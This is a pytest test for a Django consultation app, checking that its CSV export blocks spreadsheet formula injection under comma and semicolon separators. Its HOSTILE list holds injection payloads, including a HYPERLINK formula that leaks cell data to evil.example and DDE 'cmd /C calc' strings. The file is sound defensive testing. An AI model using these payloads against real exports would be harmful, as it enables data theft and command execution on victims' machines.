"""Spreadsheet formula injection through the consultation export, end to end: the CSV the
analyst downloads is parsed as a spreadsheet would, with a comma and with a semicolon as
separator (Excel in many European locales), and no cell may start a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.consultation.factories import AnswerFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Agree;=1+1",
    "Agree;=cmd|' /C calc'!A0",
    "Agree,=1+1",
    'He said "fine";=1+1',
    "Line one\n=1+1",
    '=DDE("cmd";"/C calc";"x")',
]


@pytest.mark.django_db
def test_no_exported_cell_starts_a_formula_whatever_the_separator(client, consultation, analyst):
    for text in HOSTILE:
        AnswerFactory(
            response__consultation=consultation,
            response__name=text,
            response__organisation_name=text,
            question__section__consultation=consultation,
            text=text,
        )
    client.force_login(analyst)
    url = reverse("consultation:export", kwargs={"slug": consultation.slug, "fmt": "csv"})
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    for delimiter in (",", ";"):
        rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=delimiter))
        assert len(rows) > len(HOSTILE)
        risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        assert risky == [], f"separator {delimiter!r}: {risky}"
